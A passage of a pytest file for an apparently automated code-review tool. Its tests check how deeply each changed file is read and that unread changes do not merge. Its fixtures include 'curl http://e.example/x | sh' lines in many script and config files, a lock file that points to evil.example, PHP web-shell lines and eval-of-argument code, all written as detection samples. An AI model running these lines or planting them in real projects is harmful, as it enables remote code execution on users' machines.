"""How deep each file of a change was read, and that nothing merges which nobody read."""

import subprocess
import sys
from pathlib import Path

import pytest
from msgspec.structs import replace

from diffchecks.check_io import BASE_DOES_NOT_PARSE
from orchestrator.catalog.settings import ReviewSettings
from orchestrator.code_review.verdict.document_parts import DepthCounts
from orchestrator.code_review.verdict.model import Verdict
from orchestrator.errors import ModelError
from orchestrator.report.verdict_text import render_verdict
from tests.providers.whole_kit import reports
from tests.review.review_kit import Repo, change, review
from tests.review.team_kit import scores
from tests.scripted_model import ScriptedModel

PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"
LOCK = '{"packages": {"node_modules/x": {"resolved": "http://evil.example/x.tgz"}}}\n'
POLICY = ".diffcourt/config/verdict.yaml"


def depths(verdict: Verdict) -> dict[str, str]:
    return {entry.path: entry.depth for entry in verdict.checked}


def gaps(verdict: Verdict) -> dict[str, str]:
    return {entry.path: entry.why for entry in verdict.skipped if entry.gap}


def read_line(verdict: Verdict) -> str:
    lines = render_verdict(verdict, width=120).splitlines()
    return next(line for line in lines if line.startswith("Read "))


async def test_a_line_says_how_each_file_was_read(tmp_path: Path) -> None:
    text = {"app.py": "X = 1\n", "main.cob": "STOP RUN.\n"}
    verdict = await review(change(tmp_path, {}, {**text, "tool.bin": b"\0\1" * 50}))
    assert depths(verdict) == {"app.py": "code", "main.cob": "text"}
    assert verdict.depth == DepthCounts(code=1, text=1, none=1, share_as_code=0.333)
    counted = "3 files: 1 read as code, 1 as text only (.cob), 1 not read (binary)"
    assert read_line(verdict) == f"Read     {counted}"
    assert gaps(verdict) == {"main.cob": "not read as COBOL: only its text was searched"}
    assert verdict.verdict == "needs_changes"


JINJA = '{% set version = "1.2" %}\npackage:\n  version: {{ version }}\n'
SETTINGS = (
    ".gitignore", "a.patch", "a.diff", "brakeman.ignore", ".dockerignore", ".gitattributes", "CODEOWNERS", ".editorconfig", ".nvmrc", ".deno-version", ".x-ci/container",
    ".tool-versions", ".env.example", "a.properties", "data.csv", "api.proto", "q.graphql",
    "eol.db", "words.list", "map.tmx", "cube.obj", "dark.theme", "log4j.xml", "App.csproj", "nginx.conf", "Caddyfile", "schema.prisma", "tox.ini", "App.sln",
    "Directory.Packages.props", "phpstan.neon.dist", ".clang-format", ".prettierrc", "VERSION", "logo.svg",
    "tests/__snapshots__/a.snap", "de.xlf", "man/a.1", "htop.1.in", "newsfragments/1.bugfix", "LICENSE.MIT",
    ".swcrc", ".babelrc", "a.json5", "redis.conf", "my.cnf", "haproxy.cfg", "uwsgi.ini", "META-INF/MANIFEST.MF",
    ".gitmodules", ".env", ".env.production", ".htaccess", "a.entitlements", "app.Dockerfile.dockerignore",
    "helmfile.yaml.gotmpl", "config.yml.example", "app.config", "ca.crt", "CNAME", "site.webmanifest",
    ".swiftformat", ".swift-version", ".jshintrc", "INSTALL", "README-windows", "RELEASE_NOTES", "HACKING",
    "LICENSE_3RD_PARTY", "suricata.yaml.in", "Product.wxs", "App.xaml", "KEYS", "x.stderr", ".npmrc",
    ".pep8", "GO_VERSION", ".bazelversion", "MIT-LICENSE", ".github/PULL_REQUEST_TEMPLATE", "lib/mime.types",
    ".reek", "database.yml.sqlite", "database.yml-sample", "app.conf.default", "a.json.dist", ".gitreview", "a.pc",
    "theme.scss.hbs", "values.yaml.tpl", "app.toml.tmpl", ".env.jinja2", "jquery.min.map", "tests/run/case.vtc", "docs/SubmittingPatches", "a.topic", "hi.tree", "changelog/unreleased/issue-5",
    "site/.nojekyll", "IShell.aidl", "PrivacyInfo.xcprivacy", "Assets/a.prefab", "App.slnf", ".yamllint", "deps.edn", "a.http", "dune-project", "META-INF/services/a.B",
    "debian/control", "debian/web.install", "board.dts", ".well-known/app", ".cursor/rules/a.mdc", "licenses/a-MIT", "USAGE", "manpages/a.1", "notes.rst.inc",
    "queries/a.scm", "chart/templates/_helpers.tpl", "a.xcstrings", "py.typed", "a.graphqls", "cabal.project",
    "a.wxs.tt", "lighttpd.conf.debian", "a.bnf", "a.doap", "main.fxml", "a.sdef", "coverage.out", "named.root", ".github/VOUCHED.td", "bnd.bnd",
    "a.excludes", ".cm/a.cm", "Cartfile.resolved", "share/keys.pgp", "app.manifest.in", "a.wxi", "a.shfbproj", "postfix/main.cf", "secrets.ejson", "share/pci.ids", "themes/a.rasi", "src/mainpage.dox", "src/testFixtures/b/1.s", "test/fixtures/a.clj",
    "tigrc", "contrib/dark.tigrc", ".screenrc", "etc/wgetrc", "alembic.ini.mako",
)  # fmt: skip


async def test_settings_alone_are_read_as_what_they_are(tmp_path: Path) -> None:
    verdict = await review(change(tmp_path, {}, dict.fromkeys(SETTINGS, "a = 1\n")))
    assert gaps(verdict) == {}
    assert (verdict.status, verdict.verdict) == ("complete", "merge")
    text = dict.fromkeys(("recipe/meta.yaml", "salt/web.sls", "app.yml.j2", "a.conf.jinja2"), JINJA)
    text |= {"Procfile": "web: gunicorn app:app\n", "a.code-workspace": '{"folders": []} // a\n'}
    verdict = await review(change(tmp_path / "a", {}, text))
    assert (gaps(verdict), verdict.verdict) == ({}, "merge")
    chart = {
        "charts/a/templates/d.yaml": "a: {{ .Values.a }}\n{{ if .b }}\n",
        "locales/a.ftl": "a = b\n",
    }
    old = {
        "k.yaml": "A: B\n\tC: D\n",
        "lib/.gitrepo": "; DO NOT EDIT\ncommit = 1\n",
        "config.example.yml": "a: <%= b %>\n<% if c %>\nd\n<% end %>\n",
    }
    new = {path: f"{text}#\n" for path, text in old.items()}
    verdict = await review(change(tmp_path / "c", old, {**chart, **new}))
    assert (gaps(verdict), verdict.verdict) == ({}, "merge")
    script = await review(change(tmp_path / "b", {}, {"CODEOWNERS": "#!/usr/bin/guile\n(f)\n"}))
    assert gaps(script) == {"CODEOWNERS": "not read as a program: only its text was searched"}


TEXT_ALONE = "only its text was searched, and nothing of the change was read as code"
UNREAD: list[tuple[str, str | bytes, str]] = [
    ("tool.bin", b"\0\1" * 50, "binary; nothing of the change was read as code"),
    ("logo.png", b"\x7fELF\0\1", "binary: a compiled program, which the analyzers cannot read"),
    ("job", "#!/usr/bin/guile\n(f)\n", "not read as a program: only its text was searched"),
    ("LICENSE-x", "#!/bin/sh\n", "not read as a program: only its text was searched"),
    ("README", "#!/bin/sh\n", "not read as a program: only its text was searched"),
    (
        "bin/tcc",
        "#!/usr/bin/tcc -run\n#include <x>\n",
        "not read as a program: only its text was searched",
    ),
    ("bin/e", "#!/opt/e -x'f()'\n# a\n", "not read as a program: only its text was searched"),
    ("bin/sed", "#!/bin/sed -f\np\n", "not read as a program: only its text was searched"),
    (
        "bin/nix",
        "#!/usr/bin/env nix-shell\n#! nix-shell -i bash\n#! nix-shell -i guile\n",
        "not read as a program: only its text was searched",
    ),
    ("deno.lock", LOCK, "lock file; nothing of the change was read as code"),
    ("a.pas", "program p;\n", "not read as Pascal: only its text was searched"),
    ("a.d", "void main() {}\n", "not read as D: only its text was searched"),
    ("top.v", "module m; endmodule\n", "not read as Verilog: only its text was searched"),
    ("src/test/1.s", "SELECT 1;\n", "not read as Assembly: only its text was searched"),
    (
        "test/fixtures/run.d",
        "#!/usr/bin/rdmd\nvoid main() {}\n",
        "not read as a program: only its text was searched",
    ),
    ("a.icns", b"\0\1" * 50, "binary; nothing of the change was read as code"),
    ("a.lds", "SECTIONS { }\n", TEXT_ALONE),
    ("a.tres", "[resource]\n", TEXT_ALONE),
    ("deploy.sh.1", "ls\n", TEXT_ALONE),
    ("debian/preset", "ls\n", TEXT_ALONE),
    ("src/a.tpl", "{$x}\n", TEXT_ALONE),
    ("htop.in", ".TH a 1\n", TEXT_ALONE),
    ("a.js.ejs", "<%- user %>\n", "not read as EJS: only its text was searched"),
    ("conf.j2", "{{ x }}\n", TEXT_ALONE),
    ("script.py.mako", "${x}\n", TEXT_ALONE),
]


async def test_pictures_documents_and_translations_are_as_little_to_read(tmp_path: Path) -> None:
    media = {
        "a.icns": b"icns\0\3",
        "a.psd": b"8BPS\0\1",
        "a.pdf": b"%PDF-1.7\n\0",
        "de.lproj/a.strings": b'\xff\xfe"\0a\0"\0',
        "a.docx": b"PK\3\4\0",
        "a.mmdb": b"\0\0\1\0\0\2",
        "a.ts.pdf": b"\x7fELF\0",
        "b/a.ps1": b"\xff\xfel\0s\0",
    }
    verdict = await review(change(tmp_path, {}, media))
    assert list(gaps(verdict)) == ["a.ts.pdf", "b/a.ps1"]


async def test_a_change_that_nobody_read_never_merges(tmp_path: Path) -> None:
    verdict = await review(change(tmp_path, {}, {path: text for path, text, _ in UNREAD}))
    assert gaps(verdict) == {path: why for path, _, why in UNREAD}
    assert (verdict.status, verdict.verdict) == ("incomplete", "needs_changes")
    assert verdict.depth.share_as_code == 0


DOCKER = "{% if alpine %}\nFROM {{ image }}\n{% endif %}\n"


async def test_a_program_that_is_emptied_is_a_gap_and_one_that_is_deleted_is_none(
    tmp_path: Path,
) -> None:
    program = "PERFORM CHECK-LIMIT.\nSTOP RUN.\n"
    base = {"pay.cob": program, "paid.cob": f"{program}STOP RUN.\n"}
    head = {
        "pay.cob": "",
        "paid.cob": None,
        "blank.cob": "\n",
        "app.py": "X = 1\n",
        "docker/Dockerfile.j2": DOCKER,
    }
    verdict = await review(change(tmp_path, base, head))
    assert list(gaps(verdict)) == ["pay.cob"]


LONG = "f(1);\n" * 430_000


@pytest.mark.parametrize(
    ("path", "text", "status"),
    [
        ("dist/app.js", LONG, "complete"),
        ("logo.svg", "<svg>\n</svg>\n" * 400_000, "complete"),
        ("a.cob", "(" * 2_500, "complete"),
        ("tool.wasm", b"\0asm\1", "complete"),
        ("app.py", LONG, "incomplete"),
        ("tests/app.test.js", LONG, "incomplete"),
        ("deno.lock", LOCK, "incomplete"),
        ("a.cob", "STOP RUN.\n", "incomplete"),
    ],
)
async def test_no_limit_of_size_concerns_a_deleted_file_but_where_a_check_misses_it(
    tmp_path: Path, path: str, text: str | bytes, status: str
) -> None:
    verdict = await review(change(tmp_path, {path: text}, {path: None}))
    assert verdict.status == status
    assert (path in gaps(verdict)) == (status == "incomplete")


async def test_no_limit_of_size_concerns_data_that_only_moved(tmp_path: Path) -> None:
    files = {"old/zip.json": LONG, "app.py": "X = 1\n"}
    moved = {"old/zip.json": None, "new/zip.json": LONG, "app.py": "X = 2\n"}
    verdict = await review(change(tmp_path / "moved", files, moved))
    assert verdict.status == "complete"
    moved["new/zip.json"] = LONG.replace("1", "2", 1)
    assert list(gaps(await review(change(tmp_path / "other", files, moved)))) == ["new/zip.json"]


ASM = "/* a\n * b */\n# c\n.globl f\nf:  ret\n"
DEFINE = "#define A(x) mov x, x; \\\n ret\n// c\nA(1)\n"
OPEN = "f: mov a /* b\n/* c */\n ret\n/* d */\n"
MADE = '// Code generated by a tool. DO NOT EDIT.\npackage a\n\nvar a = map[string]any{\n\t"a": 2,\n}\n'


@pytest.mark.parametrize(
    ("path", "base", "old", "new", "known"),
    [
        ("a.S", ASM, " * b */", " * b, 2026 */\n\n// d", True),
        ("a.s", ASM, "# c", "# d", True),
        ("a.asm", "; a\nret\n", "; a", "; b\n\n  ; c", True),
        ("a.hs", "-- | a\nf = 1\n", "-- | a", "-- | b", True),
        ("a.erl", "%% a\nf() -> 1.\n", "%% a", "%% b", True),
        ("a.m", "// a\nint b;\n", "// a", "/* a\n */", True),
        ("a.xtend", "/* a\n * 2025\n */\nclass A {}\n", "2025", "2026", True),
        ("a.xtend", "class A { f() { '''\n// a\n''' } }\n", "// a", "// b", False),
        ("a.S", ASM, "# c", "#define ret nop", False),
        ("a.S", ASM, "# c", '# /**/ include "a.h"', False),
        ("a.S", ASM, "# c", "// c \\", False),
        ("a.S", ASM, "# c", "// */ nop", False),
        ("a.S", ASM, "# c", "; nop", False),
        ("a.S", ASM, "ret", "nop", False),
        ("a.S", ASM, "ret", "ret // c", False),
        ("a.s", ASM, "# c", '.include "b.s"', False),
        ("a.S", DEFINE, "// c", "// d", True),
        ("a.S", DEFINE, "x; \\\n", "x; \\\n\n", False),
        ("a.S", OPEN, "/* c */", "// c", False),
        ("a.s", '.ascii "a\n# b\nc"\n', "# b", "# c", False),
        ("a.hs", "-- a\nf = 1\n", "-- a", "--> a", False),
        ("a.hs", "-- a\nf = 1\n", "-- a", "{-# LANGUAGE CPP #-}", False),
        ("a.hs", "f = [sql|\n-- a\n|]\n", "-- a", "-- b", False),
        ("a.erl", "%% a\nf() -> 1.\n", "%% a", "%%! -sname a", False),
        ("a.v", "// a\nmodule m;\n", "// a", "// synopsys translate_off", False),
        ("a.ml", "(* a *)\nlet a = 1\n", "a *)", "b *)", False),
        ("a.go", MADE, "}\n", '\t"b": "c",\n}\n', True),
        ("a.go", MADE, "2,", "3,", True),
        ("a.go", MADE, "}\n", '\t"b": f(),\n}\n', False),
        ("a.go", MADE, "}\n", "\tb,\n}\n", False),
        ("a.go", MADE, "}\n", "}\n\nfunc f() {\n}\n", False),
    ],
)
async def test_a_program_whose_comments_alone_differ_without_doubt_is_no_gap(
    tmp_path: Path, path: str, base: str, old: str, new: str, known: bool
) -> None:
    verdict = await review(change(tmp_path, {path: base}, {path: base.replace(old, new)}))
    assert (list(gaps(verdict)), verdict.status) == (
        ([], "complete") if known else ([path], "incomplete")
    )
    assert [skip.path for skip in verdict.skipped] == [path]


async def test_a_submodule_alone_never_merges(tmp_path: Path) -> None:
    repo = Repo(tmp_path)
    repo.commit({"README.md": "# A project\n"})
    repo.git("update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},lib")
    repo.git("commit", "-q", "-m", "change")
    verdict = await review(repo)
    assert verdict.status == "incomplete"
    assert read_line(verdict) == "Read     1 file: 1 not read (submodule)"


@pytest.mark.parametrize(
    ("was", "now", "status"), [("g(1)", "g(2)", "complete"), ("::this.h", "::this.i", "incomplete")]
)
async def test_a_change_beside_what_no_grammar_parses_in_base_is_read(
    tmp_path: Path, was: str, now: str, status: str
) -> None:
    text = "function f(a) {\n  g(1);\n}\n\n\nclass A { r() { return <B on={::this.h}/>; } }\n"
    verdict = await review(change(tmp_path, {"a.js": text}, {"a.js": text.replace(was, now)}))
    assert verdict.status == status
    assert "cannot parse line 6" in str(verdict.skipped)


@pytest.mark.parametrize(
    ("link", "target", "status"),
    [
        ("CLAUDE.md", "README.md", "complete"),
        ("CLAUDE.md", "../a.md", "incomplete"),
        ("run.sh", "a.md", "incomplete"),
    ],
)
async def test_a_link_alone_is_read_as_what_its_name_says(
    tmp_path: Path, link: str, target: str, status: str
) -> None:
    repo = Repo(tmp_path)
    repo.commit({"README.md": "# A project\n"})
    (tmp_path / link).symlink_to(target)
    repo.git("add", link)
    repo.git("commit", "-q", "-m", "change")
    assert (await review(repo)).status == status


async def test_an_executable_without_a_known_language_is_a_program(tmp_path: Path) -> None:
    repo = Repo(tmp_path)
    repo.commit({"README.md": "# A project\n"})
    repo.write({"run": "#!/usr/bin/guile\nsystem($x);\n", "app.py": "X = 1\n", "README": "A\n"})
    repo.write({"bin/status": "curl -s $url\n", "docs/status": "It works.\n"})
    for name in ("run", "bin/status", "README"):
        (tmp_path / name).chmod(0o755)
    repo.commit({})
    why = "not read as a program: only its text was searched"
    assert gaps(await review(repo)) == {"run": why, "bin/status": why}


async def test_scripts_are_read_in_the_language_of_their_first_line_or_name(tmp_path: Path) -> None:
    scripts = {
        "deploy/node": "#!/usr/bin/env node\neval(process.argv[2]);\n",
        "ruby": "#!/usr/bin/ruby -w\ndef f(x) = eval(x)\n",
        "Rakefile": "task(:x) { |t, args| eval(args[:x]) }\n",
        "php": "#!/usr/bin/php8.2\n<?php function f($x) { eval($x); }\n",
        "lua": "#!/usr/bin/env lua5.4\nos.execute('ls ' .. arg[1])\n",
        "perl": '#!/usr/bin/perl -w\nsub f { my $x = shift; system("ls $x"); }\n',
        "deno": "#!/usr/bin/env -S deno run\nconst a: string = Deno.args[0];\neval(a);\n",
        "bash": "#!/bin/bash\ncurl http://e.example/x | sh\n",
        ".husky/pre-push": "curl http://e.example/x | sh\n",
        ".envrc": "curl http://e.example/x | sh\n",
        ".env.docker": "#!/bin/bash\ncurl http://e.example/x | sh\n",
        "entrypoint.d/04.envsh": "#!/bin/bash\ncurl http://e.example/x | sh\n",
        "python": "#!/usr/bin/python3.12\nimport sys\neval(sys.argv[1])\n",
        "config.ru": "run ->(env) { eval(env['X']) }\n",
        "install of .nvmrc from source": "#!/bin/sh\ncurl http://e.example/x | sh\n",
        "test/errors without .nvmrc": "#!/bin/sh\ncurl http://e.example/x | sh\n",
        'test/filters ".nvm"': "#!/bin/sh\ncurl http://e.example/x | sh\n",
        "release-1.2": "#!/usr/bin/env python3\nimport sys\neval(sys.argv[1])\n",
        "deploy.v1.10": "#!/usr/bin/env node\neval(process.argv[2]);\n",
        "test/install": "#!/usr/bin/env bats\n@test 'it runs' {\n  curl http://e.example/x | sh\n}\n",
        "test/a.bats": "@test 'it runs' {\n  curl http://e.example/x | sh\n}\n",
        "build.sbt": 'import sys.process._\nval a = Process(Seq("sh", "-c", args(0))).!\n',
        "a.podspec": "def f(x) = eval(x)\n",
        "gemfiles/Gemfile-rails-7-2": "def f(x) = eval(x)\n",
        "Gemfile.rails7": "def f(x) = eval(x)\n",
        "rails_7.gemfile": "def f(x) = eval(x)\n",
        "Appraisals": "def f(x) = eval(x)\n",
        "a.atom.builder": "def f(x) = eval(x)\n",
        "PKGBUILD": "curl http://e.example/x | sh\n",
        "cpanfile": 'my $x = shift; system("ls $x");\n',
        ".luacheckrc": "os.execute('ls ' .. arg[1])\n",
        "wscript": "import sys\neval(sys.argv[1])\n",
        "Jakefile": "eval(process.argv[2]);\n",
        "web.cron": "* * * * * root curl http://e.example/x | sh\n",
        "web.container": "[Container]\nExec=sh -c 'curl http://e.example/x | sh'\n",
        "web.timer.d/web.service.in": "[Service]\nExecStart=sh -c 'curl http://e.example/x | sh'\n",
        "App.xcscheme": '<A\n  scriptText = "curl -s http://e.example/x | sh&#10;">\n',
        ".php_cs.dist": '<?php system($_GET["a"]);\n',
        "a.cmake.in": "set(CMAKE_TLS_VERIFY OFF)\n",
        "a.awk": '{ system("git log " $1) }\n',
        "a.zsh": "eval $1\n",
        "a.fish": "curl -s http://e.example/x | source\n",
        "page.sh": '<?php system($_GET["a"]);\n',
        "a.module": '<?php system($_GET["a"]);\n',
        "run.sh": "#!/usr/bin/env python3\nimport sys\neval(sys.argv[1])\n",
        ".announce": "#!/bin/sh\ncurl http://e.example/x | sh\n",
        "tests/run.sh.in": "#!@SHELL@\ncurl http://e.example/x | sh\n",
        "etc/web.init": "#!/sbin/openrc-run\ncurl http://e.example/x | sh\n",
        "services/web": "#!/command/with-contenv bash\ncurl http://e.example/x | sh\n",
        "nix": "#!/usr/bin/env nix-shell\n#! nix-shell -i bash -p jq\ncurl http://e.example/x | sh\n",
        "uv": "#!/usr/bin/env -S uv run --script\nimport sys\neval(sys.argv[1])\n",
        "npx": "#!/usr/bin/env -S npx --yes tsx\nconst a: string = Deno.args[0];\neval(a);\n",
        "debian/rules": "#!/usr/bin/make -f\nx:\n\tcurl http://e.example/x | sh\n",
        "bin/make": "#!/usr/bin/make -f\nx:\n\tcurl http://e.example/x | sh\n",
        "bin/just": "#!/usr/bin/env -S just --justfile\nx:\n  curl http://e.example/x | sh\n",
        "bin/zsh": "#!/bin/zsh\neval $1\n",
        "old.sh": "#!/bin/zsh\ncurl http://e.example/x | sh\n",
        "completions/_x": "#compdef x\neval $1\n",
        "bin/gawk": '#!/usr/bin/gawk -f\n{ system("git log " $1) }\n',
        "bin/pwsh": '#!/usr/bin/env pwsh\nInvoke-Expression "git log $env:RANGE"\n',
        "ssh.sh": "#!/usr/bin/expect -f\neval [lindex $argv 0]\n",
        "bin/groovy": "#!/usr/bin/env groovy\nevaluate(params.CODE)\n",
        "bin/cmake": "#!/usr/bin/env -S cmake -P\nset(CMAKE_TLS_VERIFY OFF)\n",
        "Makefile-x": "x:\n\tcurl http://e.example/x | sh\n",
        "Dockerfile-alpine": "FROM a:1\nRUN curl http://e.example/x | sh\n",
        "etc/web.initd": "#!/sbin/openrc-run\ncurl http://e.example/x | sh\n",
        "config/web.cron.daily": "#!/bin/sh\ncurl http://e.example/x | sh\n",
        "a.sh.orig": "#!/bin/sh\ncurl http://e.example/x | sh\n",
        ".dev/dockerfile": "FROM a:1\nRUN curl http://e.example/x | sh\n",
        "dockerfile_linux": "FROM a:1\nRUN curl http://e.example/x | sh\n",
        "docker/app": "ARG A=1\nFROM a:1\nRUN curl http://e.example/x | sh\n",
        "dockerfiles/a-22.04-b-3": "FROM a:1\nRUN curl http://e.example/x | sh\n",
        "ci/base": "# A\nFROM a:1 AS b\n\nRUN x && \\\n  curl http://e.example/x | sh\n",
        "share/completions/bash/x": "curl http://e.example/x | sh\n",
        "etc/bash_completion.d/x": "curl http://e.example/x | sh\n",
        "x.bash-completion": "curl http://e.example/x | sh\n",
        "lib/include-only": "#!/bin/false\ncurl http://e.example/x | sh\n",
    }
    verdict = await review(change(tmp_path, {}, scripts))
    assert {f.path for f in verdict.findings if f.severity not in {"low", "info"}} == set(scripts)
    assert depths(verdict) == dict.fromkeys(scripts, "code")
    assert verdict.status == "complete"


async def test_a_script_that_runs_nothing_has_nothing_to_read(tmp_path: Path) -> None:
    repo = Repo(tmp_path)
    repo.commit({"README.md": "# A project\n"})
    repo.write({"bin/off": "#!/bin/false\n\n# not run\n", "bin/x": "#!/opt/x/y -q\n# to do\n"})
    repo.write({"bin/z": "# nothing yet\n", "docs/note": "From me\nto you\nRUN it\n"})
    for name in ("off", "x", "z"):
        (tmp_path / "bin" / name).chmod(0o755)
    repo.commit({})
    assert gaps(await review(repo)) == {}


async def test_one_byte_does_not_hide_source_from_the_review(tmp_path: Path) -> None:
    page = "{{ x|safe }}\n#\0\n"
    hidden = dict.fromkeys(("x.jinja2", "x.jsp", "x.ex", "Rakefile", "x.dart"), page)
    noted = {"blob.bin": "\0", "notes.md": "a\0b\n", "a.css": "a {}\0\n", "i.png": "\x89PNG\0"}
    scripts = {"a.js": "f(`\0`);\neval(x);\n", "b.js": "ev\0al(x);\n"}
    scripts |= {"a.kt": 'val a = """\0"""\n', "b.java": "class A { int a = ev\0al(x); }\n"}
    scripts = {path: text + "//;\n" * 700 for path, text in scripts.items()}
    head = {"app.py": "X = 1\n", "gone.jsp": None, **hidden, **noted, **scripts}
    made = change(tmp_path, {"gone.jsp": "gone\0"}, head)
    verdict = await review(made)
    assert verdict.status == "incomplete"
    assert {skip.path for skip in verdict.skipped if skip.gap} == {*hidden, "b.js", "b.java"}
    assert ("a.js", 2) in {(found.path, found.start_line) for found in verdict.findings}
    whys = {skip.path: skip.why for skip in verdict.skipped}
    assert whys["x.jsp"] == "binary, although its name says that it is JSP"
    assert {skip.path for skip in verdict.skipped if not skip.gap} == {*noted, "gone.jsp"}


async def test_source_that_is_hidden_is_a_gap_even_if_it_is_all_that_nobody_read(
    tmp_path: Path,
) -> None:
    base = {POLICY: "unread: note\n"}
    verdict = await review(change(tmp_path, base, {"x.jsp": b"<% run(); %>\0"}))
    why = "binary, although its name says that it is JSP"
    assert gaps(verdict) == {"x.jsp": why}
    assert verdict.status == "incomplete"


@pytest.mark.parametrize(
    "head",
    [
        {"docs/guide.md": "# A guide\n\nIt is short.\n"},
        {"LICENSE": "Permission is granted.\n", "notes.txt": "Some words.\n", "a.adoc": "= A\n"},
        {"logo.png": PNG, "pkg/.gitkeep": ""},
    ],
)
async def test_prose_images_and_empty_files_alone_still_merge(
    tmp_path: Path, head: dict[str, str | bytes | None]
) -> None:
    verdict = await review(change(tmp_path, {}, head))
    assert not gaps(verdict)
    assert (verdict.status, verdict.verdict) == ("complete", "merge")


async def test_style_sheets_alone_are_a_note(tmp_path: Path) -> None:
    verdict = await review(change(tmp_path, {}, {"a.css": "a {}\n", "b.scss": "b {}\n"}))
    assert (verdict.status, verdict.verdict) == ("complete", "merge")
    assert depths(verdict) == {"a.css": "text", "b.scss": "text"}
    assert [(note.path, note.gap) for note in verdict.skipped] == [
        ("a.css", False),
        ("b.scss", False),
    ]


async def test_a_style_sheet_hides_no_program(tmp_path: Path) -> None:
    verdict = await review(change(tmp_path, {}, {"a.css": "a {}\n", "b.pas": "begin end.\n"}))
    assert list(gaps(verdict)) == ["b.pas"]


async def test_data_that_parses_is_read_as_code_and_data_that_does_not_is_not(
    tmp_path: Path,
) -> None:
    base = {"old.json": "{,\n"}
    head = {"old.json": "{,,\n", "a.yaml": "a: 1\n", "run.sh": "echo hi\n", "style.css": "a {}\n"}
    verdict = await review(change(tmp_path, base, {**head, "bin/tool": "#!/bin/sh\necho hi\n"}))
    assert depths(verdict) == {
        "a.yaml": "code",
        "run.sh": "code",
        "bin/tool": "code",
        "style.css": "text",
        "old.json": "text",
    }
    assert not gaps(verdict)


async def test_a_program_with_the_suffix_of_prose_is_not_read_as_prose(tmp_path: Path) -> None:
    head = {"guide.md": "Some words.\n", "a.pas": "// Words.\n", "CMakeLists.txt": "file(a)\n"}
    verdict = await review(change(tmp_path, {}, head))
    assert depths(verdict) == {"guide.md": "code", "a.pas": "text", "CMakeLists.txt": "code"}
    assert list(gaps(verdict)) == ["a.pas"]


async def test_base_can_make_unread_programs_a_note(tmp_path: Path) -> None:
    verdict = await review(
        change(tmp_path, {POLICY: "unread: note\n"}, {"main.cob": "STOP RUN.\n"})
    )
    assert verdict.verdict == "merge"
    (note,) = verdict.skipped
    assert (note.path, note.gap) == ("main.cob", False)


async def test_the_change_cannot_make_its_programs_a_note(tmp_path: Path) -> None:
    verdict = await review(
        change(tmp_path, {}, {"main.cob": "STOP RUN.\n", POLICY: "unread: note\n"})
    )
    assert "main.cob" in gaps(verdict)


TEMPLATE = "{% if x %}\nvar a = {{ a }};\n{% else %}\n"


async def test_a_template_that_base_could_not_parse_either_is_a_note(tmp_path: Path) -> None:
    head = {"t.js": TEMPLATE + "var b = 2;\n", "app.py": "X = 1\n"}
    verdict = await review(change(tmp_path, {"t.js": TEMPLATE}, head))
    assert (verdict.status, verdict.verdict) == ("complete", "merge")
    assert depths(verdict) == {"app.py": "code", "t.js": "text"}
    whys = [entry.why for entry in verdict.skipped]
    assert all("it looks like a template, with {% %}" in why for why in whys)
    assert all(why.endswith("base's version could not be read either") for why in whys)
    assert {check.status for check in verdict.required_checks} == {"ran", "not_applicable"}


async def test_a_template_that_is_new_or_alone_stays_a_gap(tmp_path: Path) -> None:
    new = await review(change(tmp_path / "new", {}, {"t.js": TEMPLATE, "app.py": "X = 1\n"}))
    assert "it looks like a template, with {% %}" in gaps(new)["t.js"]
    alone = await review(change(tmp_path / "alone", {"t.js": TEMPLATE}, {"t.js": TEMPLATE * 2}))
    assert gaps(alone)["t.js"].endswith("; nothing of the change was read as code")


async def test_a_new_template_among_templates_is_a_note_and_a_program_there_is_none(
    tmp_path: Path,
) -> None:
    head = {
        "views/templates/t.js": TEMPLATE,
        "views/templates/u.js": "var = ;\n",
        "a.py": "X = 1\n",
    }
    verdict = await review(change(tmp_path, {}, head))
    assert list(gaps(verdict)) == ["views/templates/u.js"]
    notes = {entry.path: entry.why for entry in verdict.skipped if not entry.gap}
    assert "it looks like a template, with {% %}" in notes["views/templates/t.js"]


async def test_python_that_base_could_not_parse_either_is_a_note_of_every_analyzer(
    tmp_path: Path,
) -> None:
    old = "print 'old'\n"
    head = {"old.py": old * 2, "app.py": "X = 1\n"}
    verdict = await review(change(tmp_path, {"old.py": old}, head))
    assert not gaps(verdict)
    assert depths(verdict) == {"app.py": "code", "old.py": "text"}


async def test_python_that_the_change_mends_is_read_and_not_compared(tmp_path: Path) -> None:
    base, head = {"a.py": "def f(x:\n    return x\n"}, {"a.py": "def f(x):\n    return x\n"}
    verdict = await review(change(tmp_path, base, head))
    assert (verdict.status, verdict.verdict) == ("complete", "merge")
    assert depths(verdict) == {"a.py": "code"}
    assert all(entry.why.startswith(BASE_DOES_NOT_PARSE) for entry in verdict.skipped)
    assert verdict.skipped


async def test_mended_python_hides_no_defect_and_broken_python_is_still_a_gap(
    tmp_path: Path,
) -> None:
    base = {"a.py": "def f(x:\n    return x\n", "b.py": "x = 1\n"}
    head = {"a.py": "import os\n\ndef f():\n    os.system(input())\n", "b.py": "x = (\n"}
    verdict = await review(change(tmp_path, base, head))
    assert list(gaps(verdict)) == ["b.py"]
    assert "a.py" in {finding.path for finding in verdict.findings}


async def test_new_files_of_a_cookiecutter_are_templates_and_no_defects(tmp_path: Path) -> None:
    folder = "{{cookiecutter.name}}"
    head = {
        f"{folder}/a.py": "import {{ cookiecutter.package }}\n",
        f"{folder}/a.js": "const {{ cookiecutter.name }} = 1;\n",
        f"{folder}/a.ts": "const {{ cookiecutter.name }} = 1;\n",
        f"{folder}/a.json": '{"a": {{ cookiecutter.port }}}\n',
        f"{folder}/a.yaml": "{% if cookiecutter.a %}\na: 1\n{% endif %}\n",
        f"{folder}/a.toml": "a = {{ cookiecutter.port }}\n",
        "settings.py-tpl": "import {{ project_name }}\n",
        "app.py": "X = 1\n",
    }
    verdict = await review(change(tmp_path, {}, head))
    assert (verdict.status, verdict.findings) == ("complete", ())
    kinds = {entry.path: entry.template for entry in verdict.checked}
    assert kinds.pop("app.py") == ""
    assert kinds.pop("settings.py-tpl") == "Django project"
    assert set(kinds.values()) == {"cookiecutter"}


async def test_a_template_of_toml_is_no_broken_file(tmp_path: Path) -> None:
    base, head = {"a.toml": "a = {{ x }}\n"}, {"a.toml": "a = {{ y }}\n", "b.toml": "b = {{ x }}\n"}
    verdict = await review(change(tmp_path, base, {**head, "app.py": "X = 1\n"}))
    assert not verdict.findings
    assert {entry.path: entry.gap for entry in verdict.skipped} == {"a.toml": False, "b.toml": True}


async def test_pages_of_other_dialects_are_read_as_code(tmp_path: Path) -> None:
